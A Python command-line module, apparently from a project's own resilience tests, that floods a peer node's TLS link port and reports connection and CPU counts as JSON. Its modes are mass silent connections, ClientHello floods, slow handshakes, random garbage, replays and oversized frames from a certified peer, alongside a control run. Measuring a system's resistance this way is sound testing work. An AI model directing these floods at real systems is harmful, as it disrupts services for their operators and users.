"""One attack on a node's link port for some seconds: `python -m attacks.flood KIND --target=IP:PORT --seconds=N …`.

At the end it prints what it has done, as JSON: connections made, how often the other side ended one, CPU seconds used.
"""

from __future__ import annotations

import argparse
import contextlib
import itertools
import json
import os
import random
import socket
import ssl
import threading
import time
from collections import Counter
from collections.abc import Callable
from pathlib import Path

from . import frames
from .certificates import Files
from .crowd import RESET_ON_CLOSE, Crowd
from .frames import Hello
from .subrosa_peer import Address, dial, tls

DIALLERS = 8
"""Threads that shake hands at the same time."""


def client_hello() -> bytes:
    """The first flight of an honest handshake."""
    outgoing = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        tls(ssl.PROTOCOL_TLS_CLIENT, None).wrap_bio(ssl.MemoryBIO(), outgoing).do_handshake()
    return outgoing.read()


class Attacker:
    def __init__(self, options: argparse.Namespace) -> None:
        host, _, port = options.target.rpartition(":")
        self.target: Address = (host, int(port))
        self.options = options
        self.until = time.monotonic() + options.seconds
        self.counts: Counter[str] = Counter()
        self._sources = itertools.cycle(options.sources)

    def _source(self) -> str:
        return next(self._sources)

    # Without TLS

    def silent(self) -> None:
        """Ten thousand connections that say nothing."""
        self._crowd(10_000, lambda: b"")

    def hellos(self) -> None:
        """A ClientHello, which makes the node answer and sign, then nothing."""
        text = client_hello()
        self._crowd(1_000, lambda: text)

    def trickle(self) -> None:
        """Two thousand handshakes at a byte a second."""
        text = client_hello()
        self._crowd(2_000, lambda: text, each_second=1)

    def garbage(self) -> None:
        """Random bytes, sometimes behind the beginning of a TLS record, up to a megabyte of them on each connection."""
        noise = os.urandom(1 << 20)

        def script() -> bytes:
            begin = random.randrange(len(noise) // 2)
            return random.choice([b"", b"\x16\x03\x01\x40\x00"]) + noise[begin : begin + random.randrange(1 << 19)]

        self._crowd(100, script)

    def replay(self) -> None:
        """All that a node once said on a link that was accepted."""
        text = self.options.recording.read_bytes()
        self._crowd(100, lambda: text)

    def _crowd(self, size: int, script: Callable[[], bytes], **options: int) -> None:
        crowd = Crowd(self.target, size, script, self._source, **options)
        crowd.run(self.until)
        self.counts += crowd.counts

    # With TLS

    def stranger(self) -> None:
        """Whole handshakes with a certificate of another CA."""
        context = self._context()

        def once() -> None:
            with dial(self.target, self._source(), context) as connection:
                connection.send(Hello("link", "am-3", bytes(32)))
                while connection.receive() is not None:
                    pass

        self._again_and_again(once)

    def oversized(self) -> None:
        """A certified node that breaks the protocol as soon as it is let in, and is back at once."""
        context = self._context()
        digest = bytes.fromhex(self.options.digest)
        choice = itertools.cycle([("link", frames.DATAGRAM, 65_508), ("lane", frames.CHUNK, 262_145)])

        def once() -> None:
            role, kind, length = next(choice)
            with dial(self.target, self._source(), context) as connection:
                connection.send(Hello(role, self.options.name, digest))
                answer = connection.receive()
                self.counts["let in"] += isinstance(answer, Hello)
                connection.send(frames.raw(kind, length, bytes(65_000)))
                while connection.receive() is not None:
                    pass
                self.counts["thrown out"] += 1

        self._again_and_again(once)

    def _context(self) -> ssl.SSLContext:
        return tls(ssl.PROTOCOL_TLS_CLIENT, Files(self.options.cert, self.options.key))

    def _again_and_again(self, once: Callable[[], None]) -> None:
        def work() -> None:
            while time.monotonic() < self.until:
                self.counts["tried"] += 1
                with contextlib.suppress(OSError, frames.FrameError):
                    once()

        workers = [threading.Thread(target=work, daemon=True) for _ in range(DIALLERS)]
        for worker in workers:
            worker.start()
        for worker in workers:
            worker.join(max(0, self.until - time.monotonic()) + 1)

    # The control

    def burn(self) -> None:
        """Connects as often as an attack did and uses as much CPU, which is all that the two have in common."""
        begin = time.monotonic()
        opened = 0
        while (now := time.monotonic()) < self.until:
            if time.process_time() > (now - begin) * self.options.share:
                time.sleep(0.001)
            elif opened < (now - begin) * self.options.rate:
                opened += 1
                with contextlib.suppress(OSError), socket.create_connection(self.target, 1) as raw:
                    raw.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET_ON_CLOSE)
        self.counts["connected"] = opened


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("kind")
    parser.add_argument("--target", required=True)
    parser.add_argument("--sources", type=lambda text: text.split(","), default=[""])
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--cert", type=Path)
    parser.add_argument("--key", type=Path)
    parser.add_argument("--name", default="am-3")
    parser.add_argument("--digest", default="00" * 32)
    parser.add_argument("--recording", type=Path)
    parser.add_argument("--rate", type=float, default=0)
    parser.add_argument("--share", type=float, default=0)
    attacker = Attacker(options := parser.parse_args())
    begin = time.process_time()
    getattr(attacker, options.kind)()
    print(json.dumps({**attacker.counts, "CPU seconds": time.process_time() - begin}))


if __name__ == "__main__":
    main()
